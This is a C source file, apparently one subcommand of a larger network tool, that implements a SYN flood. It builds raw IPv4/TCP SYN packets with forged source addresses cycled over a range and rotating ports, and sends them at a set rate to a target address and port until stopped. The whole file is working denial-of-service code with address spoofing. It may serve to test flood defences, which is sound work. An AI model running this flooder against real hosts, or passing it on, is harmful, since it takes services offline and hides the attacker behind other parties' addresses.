// A SYN flood: half a handshake, as often as it is told, from many ports and many addresses.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "tool.h"

enum { kBurst = 64 };

struct syn {
  struct iphdr ip;
  struct tcphdr tcp;
};

static volatile sig_atomic_t ended;

static void end(int number) {
  (void)number;
  ended = 1;
}

static uint32_t add_words(const void* data, size_t size, uint32_t sum) {
  uint16_t word;
  for (size_t i = 0; i < size; i += sizeof word) {
    memcpy(&word, (const char*)data + i, sizeof word);
    sum += word;
  }
  return sum;
}

static uint16_t fold(uint32_t sum) {
  sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t) ~((sum & 0xffff) + (sum >> 16));
}

static struct syn make_syn(in_addr_t from, in_addr_t to, uint16_t sport, uint16_t dport) {
  struct syn s = {.ip = {.version = 4,
                         .ihl = 5,
                         .tot_len = htons(sizeof s),
                         .ttl = 64,
                         .protocol = IPPROTO_TCP,
                         .saddr = from,
                         .daddr = to},
                  .tcp = {.source = htons(sport),
                          .dest = htons(dport),
                          .seq = htonl((uint32_t)sport << 8),
                          .doff = 5,
                          .syn = 1,
                          .window = htons(1024)}};
  uint32_t sum = htons(IPPROTO_TCP) + htons(sizeof s.tcp);
  sum = add_words(&s.ip.saddr, 2 * sizeof s.ip.saddr, sum);
  s.tcp.check = fold(add_words(&s.tcp, sizeof s.tcp, sum));
  return s;
}

// syns [-t MS] SOURCE COUNT ADDRESS PORT RATE: a SYN from SOURCE and each of the COUNT - 1 IPv4
// addresses after it in turn, RATE a second for MS or until SIGTERM, each from the next port.
// Answers to them are not this program's business. Prints how many it sent.
int syns(int argc, char** argv, const struct options* o) {
  if (argc != 5) return 2;
  const struct sigaction action = {.sa_handler = end};
  sigaction(SIGTERM, &action, NULL);
  const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
  if (fd < 0) fail("raw socket");
  const uint32_t first = ntohl(inet_addr(argv[0]));
  const uint32_t sources = (uint32_t)atoi(argv[1]);
  const struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = {inet_addr(argv[2])}};
  const long rate = atol(argv[4]);
  const long start = now_ms();
  unsigned long sent = 0;
  puts("ready");
  fflush(stdout);
  while (!ended && now_ms() - start < o->timeout) {
    if ((long)sent > (now_ms() - start) * rate / 1000) {
      usleep(1000);
      continue;
    }
    for (int i = 0; i < kBurst; i++, sent++) {
      const uint32_t round = (uint32_t)(sent / sources);
      const struct syn s = make_syn(htonl(first + (uint32_t)(sent % sources)), to.sin_addr.s_addr,
                                    (uint16_t)(1024 + round % 64000), (uint16_t)atoi(argv[3]));
      if (sendto(fd, &s, sizeof s, 0, (const struct sockaddr*)&to, sizeof to) < 0 &&
          errno != ENOBUFS)
        return say(errno);
    }
  }
  printf("sent %lu\n", sent);
  return 0;
}
